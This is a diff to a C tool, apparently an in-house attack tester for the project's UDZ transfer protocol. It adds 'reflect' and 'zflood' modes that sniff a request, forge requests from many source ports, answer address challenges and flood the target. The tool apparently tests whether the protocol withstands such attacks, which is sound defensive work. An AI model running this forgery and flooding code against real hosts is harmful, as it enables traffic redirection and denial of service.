@@ -14,6 +14,17 @@
  *       sends each a ZREQ for that region with a window of 2^32-1 chunks whose data channel
  *       is PORT, where it listens and counts what arrives (2 s after the last request). An
  *       owner that trusted a request would stream the region there.
+ *   udz_attack reflect --to IP --ports P,... [--sources N] [--foreign PORT] [--seconds S]
+ *       an observer that proves its address: sniffs a ZREQ as forge does (any wire version up
+ *       to this one's, copied into what it forges), then from N fresh source ports of its own
+ *       sends each a ZREQ for that region (window 2^32-1, data channel PORT), echoes every
+ *       address challenge the owner sends those sources, and counts what reaches PORT until
+ *       2 s pass without any. Against a long-lived registration (tests/fault/udz_victim).
+ *   udz_attack zflood --to IP --ports P,... [--sources N] [--foreign PORT] [--seconds S]
+ *                     [--rate R]
+ *       a ZREQ flood: sniffs a ZREQ as forge does, then sends R forged ZREQs a second for S
+ *       seconds from N fresh source ports in turn, each source's next reliable packet (every
+ *       one is taken), half naming data channel 0 and half PORT.
  * Ends with "udz_attack: sent N" (and the first error, if sending failed).
  */
 #include "udz_proto.h"
@@ -144,7 +155,9 @@ static int forge_sniff(const struct sockaddr_in *to, const int *ports, int nport
         const uint8_t *d = pkt + ihl + sizeof(*u);
         memcpy(hdr, d, sizeof(*hdr));
         udz_to += (hdr->magic == UDZ_MAGIC);
-        if ((hdr->magic != UDZ_MAGIC) || (hdr->version != UDZ_VERSION) ||
+        /* any version up to ours: the forgery copies the one the job speaks (UDZ_ATTACK aims
+         * this attacker at an older build's job) */
+        if ((hdr->magic != UDZ_MAGIC) || (hdr->version == 0) || (hdr->version > UDZ_VERSION) ||
             (hdr->type != UDZ_T_ZREQ) || (hdr->len != sizeof(*req))) {
             continue;
         }
@@ -209,7 +222,7 @@ static int attack_forge(const struct sockaddr_in *to, const int *ports, int npor
         f.ack        = 1;
         f.flags      = 0;
         r.xfer_id    = (uint32_t)rnd();
-        r.chan_id    = (uint32_t)foreign;
+        r.chan_id    = htons((uint16_t)foreign);   /* a port, as the wire named it before */
         r.window     = 0xffffffffu;
         memcpy(buf, &f, sizeof(f));
         memcpy(buf + sizeof(f), &r, sizeof(r));
@@ -245,12 +258,220 @@ static int attack_forge(const struct sockaddr_in *to, const int *ports, int npor
     return 0;
 }
 
+/* An observer that proves its own address: from N fresh source ports it sends each a ZREQ for
+ * the sniffed region (window 2^32-1, data channel PORT, a port of its host it listens on) and
+ * echoes every address challenge the owner sends back, so that each source is a validated
+ * peer; then counts what reaches PORT. An owner that sent a transfer wherever its ZREQ said
+ * would stream the region there, the long-lived key's whole region per 88-byte request. */
+static int attack_reflect(const struct sockaddr_in *to, const int *ports, int nports,
+                          long sources, int foreign, double seconds)
+{
+    double end = now() + seconds, quiet;
+    struct sockaddr_in dst = *to, me;
+    uint8_t buf[UDZ_HDR_LEN + sizeof(udz_zreq_t)], in[2048];
+    udz_hdr_t h;
+    udz_zreq_t q;
+    uint16_t port;
+    uint64_t *cookie;
+    long sent = 0, echoed = 0, got = 0, got_bytes = 0, i;
+    struct pollfd *pfd;
+    int lfd;
+
+    pfd    = calloc((size_t)sources + 1, sizeof(*pfd));
+    cookie = calloc((size_t)sources, sizeof(*cookie));
+    lfd    = socket(AF_INET, SOCK_DGRAM, 0);
+    memset(&me, 0, sizeof(me));
+    me.sin_family = AF_INET;
+    me.sin_port   = htons((uint16_t)foreign);
+    if ((pfd == NULL) || (cookie == NULL) || (lfd < 0) ||
+        (bind(lfd, (const struct sockaddr*)&me, sizeof(me)) != 0)) {
+        perror("udz_attack: foreign port");
+        return 1;
+    }
+    if (forge_sniff(to, ports, nports, end, &h, &q, &port) != 0) {
+        printf("udz_attack: sent 0 (no ZREQ seen in %.0f s)\n", seconds);
+        return 1;
+    }
+    dst.sin_port = htons(port);
+    for (i = 0; i < sources; ++i) {
+        udz_hdr_t f = h;
+        udz_zreq_t r = q;
+
+        pfd[i].fd     = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+        pfd[i].events = POLLIN;
+        cookie[i]     = rnd() | 1;      /* a new source: its own incarnation */
+        f.src_cookie  = cookie[i];
+        f.psn         = 1;
+        f.ack         = 1;
+        f.flags       = 0;
+        r.xfer_id     = (uint32_t)rnd();
+        /* the port as a wire that names channels by port reads it (network byte order,
+         * udz_udp_chan_addr before it named an index); to one that names an index among the
+         * announced channels it is an index far past any */
+        r.chan_id     = htons((uint16_t)foreign);
+        r.window      = 0xffffffffu;
+        memcpy(buf, &f, sizeof(f));
+        memcpy(buf + sizeof(f), &r, sizeof(r));
+        if ((pfd[i].fd >= 0) && (sendto(pfd[i].fd, buf, sizeof(buf), 0,
+                                        (const struct sockaddr*)&dst, sizeof(dst)) > 0)) {
+            ++sent;
+        }
+    }
+    pfd[sources].fd     = lfd;
+    pfd[sources].events = POLLIN;
+    /* answer challenges, and count what reaches the foreign port, until 2 s pass quietly */
+    for (quiet = now() + 2; now() < quiet;) {
+        if (poll(pfd, (nfds_t)sources + 1, 10) <= 0) {
+            continue;
+        }
+        for (i = 0; i <= sources; ++i) {
+            ssize_t n;
+
+            if (!(pfd[i].revents & POLLIN)) {
+                continue;
+            }
+            while ((n = recv(pfd[i].fd, in, sizeof(in), MSG_DONTWAIT)) > 0) {
+                udz_hdr_t c;
+                udz_chal_t ch;
+
+                if (i == sources) {
+                    ++got;
+                    got_bytes += n;
+                    quiet = now() + 2;
+                    continue;
+                }
+                if ((size_t)n != UDZ_HDR_LEN + sizeof(ch)) {
+                    continue;
+                }
+                memcpy(&c, in, sizeof(c));
+                memcpy(&ch, in + UDZ_HDR_LEN, sizeof(ch));
+                if ((c.magic != UDZ_MAGIC) || (c.type != UDZ_T_CHAL) || (ch.chal == 0) ||
+                    (c.dst_cookie != cookie[i])) {
+                    continue;
+                }
+                /* the echo: this source does receive at its address */
+                c.dst_cookie = h.dst_cookie;
+                c.src_cookie = cookie[i];
+                c.psn        = 0;
+                c.ack        = 1;
+                c.flags      = 0;
+                ch.echo      = ch.chal;
+                ch.chal      = 0;
+                memcpy(in, &c, sizeof(c));
+                memcpy(in + UDZ_HDR_LEN, &ch, sizeof(ch));
+                if (sendto(pfd[i].fd, in, UDZ_HDR_LEN + sizeof(ch), 0,
+                           (const struct sockaddr*)&dst, sizeof(dst)) > 0) {
+                    ++echoed;
+                }
+            }
+        }
+    }
+    for (i = 0; i < sources; ++i) {
+        if (pfd[i].fd >= 0) {
+            close(pfd[i].fd);
+        }
+    }
+    close(lfd);
+    free(pfd);
+    free(cookie);
+    printf("udz_attack: sent %ld forged ZREQs (wire version %u) for a long-lived key's %llu "
+           "bytes (window 2^32-1, data channel %d) from %ld validating sources to port %u, "
+           "echoed %ld challenges; the foreign port got %ld datagrams (%ld bytes)\n", sent,
+           h.version, (unsigned long long)q.len, foreign, sent, port, echoed, got, got_bytes);
+    return 0;
+}
+
+/* A flood of forged ZREQs with a sniffed cookie and key: from N fresh source ports of its own,
+ * in turn, each source's next reliable packet (psn 1, 2, ...: every one is taken, none is a
+ * duplicate), at RATE per second for S seconds; half name data channel 0 (a channel the source
+ * never announced), half the foreign PORT. The owner's state per source is bounded (64
+ * transfers, then refusals), and what it answers is never larger than what came. */
+static int attack_zflood(const struct sockaddr_in *to, const int *ports, int nports,
+                         long sources, int foreign, double seconds, long rate)
+{
+    double t0, end;
+    struct sockaddr_in dst = *to;
+    uint8_t buf[UDZ_HDR_LEN + sizeof(udz_zreq_t)], junk[2048];
+    udz_hdr_t h;
+    udz_zreq_t q;
+    uint16_t port;
+    uint64_t *cookie;
+    uint32_t *psn;
+    long sent = 0, failed = 0, i;
+    int *fds;
+
+    fds    = calloc((size_t)sources, sizeof(*fds));
+    cookie = calloc((size_t)sources, sizeof(*cookie));
+    psn    = calloc((size_t)sources, sizeof(*psn));
+    if ((fds == NULL) || (cookie == NULL) || (psn == NULL)) {
+        perror("udz_attack: memory");
+        return 1;
+    }
+    if (forge_sniff(to, ports, nports, now() + 30, &h, &q, &port) != 0) {
+        printf("udz_attack: sent 0 (no ZREQ seen in 30 s)\n");
+        return 1;
+    }
+    dst.sin_port = htons(port);
+    for (i = 0; i < sources; ++i) {
+        fds[i]    = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+        cookie[i] = rnd() | 1;
+        psn[i]    = 1;
+    }
+    t0  = now();
+    end = t0 + seconds;
+    while (now() < end) {
+        /* paced: at most rate per second, checked every 64 */
+        if ((sent + failed) > (long)((now() - t0) * (double)rate)) {
+            usleep(500);
+            continue;
+        }
+        for (i = 0; i < 64; ++i) {
+            long k = (sent + failed) % sources;
+            udz_hdr_t f = h;
+            udz_zreq_t r = q;
+
+            f.src_cookie = cookie[k];
+            f.psn        = psn[k];
+            f.ack        = 1;
+            f.flags      = 0;
+            r.xfer_id    = (uint32_t)rnd();
+            r.chan_id    = ((sent + failed) & 1) ? htons((uint16_t)foreign) : 0;
+            r.window     = 0xffffffffu;
+            memcpy(buf, &f, sizeof(f));
+            memcpy(buf + sizeof(f), &r, sizeof(r));
+            if ((fds[k] >= 0) && (sendto(fds[k], buf, sizeof(buf), 0,
+                                         (const struct sockaddr*)&dst, sizeof(dst)) > 0)) {
+                ++sent;
+                ++psn[k];
+            } else {
+                ++failed;
+            }
+            /* what the owner answers (challenges, refusals, acks) is read and dropped */
+            while (recv(fds[k], junk, sizeof(junk), MSG_DONTWAIT) > 0) {
+            }
+        }
+    }
+    for (i = 0; i < sources; ++i) {
+        if (fds[i] >= 0) {
+            close(fds[i]);
+        }
+    }
+    free(fds);
+    free(cookie);
+    free(psn);
+    printf("udz_attack: sent %ld forged ZREQs (wire version %u) in %.1f s from %ld sources to "
+           "port %u (%ld sends failed)\n", sent, h.version, seconds, sources, port, failed);
+    return 0;
+}
+
 static void usage(void)
 {
     fprintf(stderr, "usage: udz_attack flood --to IP --ports P,P,... [--count N] "
                     "[--seconds S] [--seed X]\n"
-                    "       udz_attack forge --to IP --ports P,P,... [--sources N] "
-                    "[--foreign PORT] [--seconds S]\n");
+                    "       udz_attack forge|reflect --to IP --ports P,P,... [--sources N] "
+                    "[--foreign PORT] [--seconds S]\n"
+                    "       udz_attack zflood --to IP --ports P,P,... [--sources N] "
+                    "[--foreign PORT] [--seconds S] [--rate R]\n");
     exit(2);
 }
 
@@ -258,7 +479,7 @@ int main(int argc, char **argv)
 {
     struct sockaddr_in to;
     int have_to = 0, nports = 0, ports[256], i;
-    long count = 1000, sources = 1000;
+    long count = 1000, sources = 1000, rate = 10000;
     int foreign = 9;
     double seconds = 10;
     char *tok, *save;
@@ -284,6 +505,8 @@ int main(int argc, char **argv)
             sources = atol(argv[i + 1]);
         } else if (!strcmp(argv[i], "--foreign")) {
             foreign = atoi(argv[i + 1]);
+        } else if (!strcmp(argv[i], "--rate")) {
+            rate = atol(argv[i + 1]);
         } else if (!strcmp(argv[i], "--seed")) {
             rng_state = strtoull(argv[i + 1], NULL, 0) | 1;
         } else {
@@ -300,6 +523,14 @@ int main(int argc, char **argv)
     if (!strcmp(argv[1], "forge") && have_to && (nports > 0) && (foreign > 0) &&
         (foreign < 65536)) {
         return attack_forge(&to, ports, nports, sources, foreign, seconds);
+    }
+    if (!strcmp(argv[1], "zflood") && have_to && (nports > 0) && (foreign > 0) &&
+        (foreign < 65536) && (sources <= 4096) && (rate > 0) && (rate <= 1000000)) {
+        return attack_zflood(&to, ports, nports, sources, foreign, seconds, rate);
+    }
+    if (!strcmp(argv[1], "reflect") && have_to && (nports > 0) && (foreign > 0) &&
+        (foreign < 65536) && (sources <= 1000)) {
+        return attack_reflect(&to, ports, nports, sources, foreign, seconds);
     }
     usage();
     return 2;
